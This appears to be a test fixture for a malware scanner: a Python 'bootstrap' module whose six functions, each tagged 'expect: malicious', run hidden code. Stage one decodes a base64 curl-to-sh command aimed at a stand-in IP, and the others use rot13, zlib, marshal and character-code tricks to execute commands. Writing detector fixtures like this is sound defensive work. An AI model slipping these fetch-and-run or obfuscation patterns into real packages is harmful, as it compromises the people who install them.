"""Package bootstrap that hides what it runs."""
import base64
import codecs
import marshal
import os
import subprocess
import types
import urllib.request
import zlib


def stage_one():
    cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3AgfCBzaA==").decode()
    # expect: malicious
    os.system(cmd)


def stage_two(blob):
    script = zlib.decompress(bytes.fromhex(blob)).decode()
    # expect: malicious
    subprocess.run(script, shell=True)


def stage_three():
    # expect: malicious
    subprocess.check_output(base64.b64decode(b"aWQgLWE=").decode(), shell=True)


def stage_four():
    src = codecs.decode("vzcbeg bf; bf.flfgrz('vq')", "rot13")
    # expect: malicious
    exec(src)


def stage_five(url):
    code = marshal.loads(urllib.request.urlopen(url).read())
    # expect: malicious
    types.FunctionType(marshal.loads(urllib.request.urlopen(url).read()), globals())()
    return code


def stage_six():
    src = "".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115])
    # expect: malicious
    exec(src)
